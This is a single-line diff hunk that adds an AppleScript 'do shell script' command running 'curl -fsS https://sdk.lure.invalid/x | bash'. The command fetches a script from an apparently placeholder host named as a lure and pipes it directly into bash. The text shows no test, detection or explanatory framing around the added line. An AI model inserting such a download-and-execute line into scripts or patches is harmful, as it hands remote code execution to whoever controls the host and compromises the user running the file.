@@ -1,0 +1,1 @@
+do shell script "curl -fsS https://sdk.lure.invalid/x | bash"
